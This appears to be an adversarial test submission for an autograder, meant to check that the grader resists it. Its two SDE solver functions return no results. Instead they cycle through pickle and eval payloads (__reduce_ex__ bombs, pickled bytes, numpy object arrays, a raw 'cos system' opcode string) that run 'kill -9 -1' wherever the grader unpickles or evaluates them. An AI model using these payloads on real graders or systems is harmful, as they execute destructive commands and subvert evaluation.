# Attack: returns what runs code where it is unpickled: objects with __reduce__, pickles as bytes, text and numbers, arrays of objects.
# Expect: euler_maruyama.euler_maruyama 0 points, failed
# Expect: euler_maruyama.simulate_sde 0 points, failed
# Shows: nothing
import copyreg
import io
import pickle
from itertools import cycle

import numpy as np

WORDS = "__import__('os').system('touch /tmp/unpickled; kill -9 -1')"


class Bomb:
    """Runs WORDS wherever it is unpickled or evaluated."""

    def __reduce_ex__(self, protocol):
        return eval, (WORDS,)

    def __str__(self):
        return WORDS

    __repr__ = __str__


class Array(np.ndarray):
    """An array whose pickle is a Bomb's."""

    __reduce_ex__ = Bomb.__reduce_ex__


def saved(value):
    file = io.BytesIO()
    np.save(file, value, allow_pickle=True)
    return file.getvalue()


copyreg.pickle(complex, lambda value: (eval, (WORDS,)))
text = pickle.dumps(Bomb(), protocol=2)
answers = cycle(
    [
        text,
        Bomb(),
        text.decode("latin-1"),
        np.frombuffer(text, dtype=np.uint8),
        np.array([Bomb(), Bomb()]),
        saved(np.array([Bomb()])),
        {"__reduce__": WORDS, "py/object": "os.system", "py/reduce": [{"py/function": "builtins.eval"}, {"py/tuple": [WORDS]}]},
        ["cos\nsystem\n(S'id'\ntR."],
        np.zeros(3).view(Array),
        memoryview(text),
        np.void(text),
        np.array(text),
        bytearray(text),
        eval,
        WORDS,
        [text * 100],
        1j,
    ]
)


def euler_maruyama(f, g, x0, t, dW):
    return next(answers)


def simulate_sde(f, g, x0, t, n, rng):
    return next(answers)
